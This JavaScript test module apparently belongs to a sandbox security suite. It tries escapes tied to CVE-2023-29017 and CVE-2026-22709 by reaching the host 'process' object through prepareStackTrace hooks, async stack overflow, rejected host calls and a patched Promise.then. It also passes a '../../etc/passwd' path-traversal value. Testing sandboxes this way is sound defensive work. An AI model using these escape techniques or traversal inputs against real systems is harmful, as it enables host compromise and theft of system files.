// Escape attempt: CVE-2023-29017 and CVE-2026-22709: Promise.then/catch callbacks receiving host errors (async stack overflow, rejected host calls).
// Runs with ../escape-harness.js prepended (pwn, attempt).

module.exports = {
  name: 'escape-promise-then-host',
  description: 'sandbox escape attempt: promise-then-host',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    Error.prepareStackTrace = (e, frames) => { attempt(notes, "frames", () => pwn(frames.constructor.constructor("return process")(), marker, notes, "async frames")); return ""; };
    async function overflow() { (function r() { r(); })(); }
    await overflow().catch((e) => { attempt(notes, "overflow", () => pwn(e.constructor.constructor("return process")(), marker, notes, "async overflow")); });
    Error.prepareStackTrace = undefined;
    await Promise.resolve().then(() => { throw 1; }).catch((e) => { attempt(notes, "catch", () => pwn(e.constructor.constructor("return process")(), marker, notes, "catch arg")); });
    await ctx.logs("../../etc/passwd", 5).catch((e) => { attempt(notes, "ctx reject", () => pwn(e.constructor.constructor("return process")(), marker, notes, "ctx rejection")); });
    const orig = Promise.prototype.then;
    Promise.prototype.then = function (a, b) { attempt(notes, "patched then", () => pwn(this.constructor.constructor("return process")(), marker, notes, "patched then")); return orig.call(this, a, b); };
    await ctx.container();
    Promise.prototype.then = orig;
    return { summary: notes.join(' | '), data: notes };
  },
};
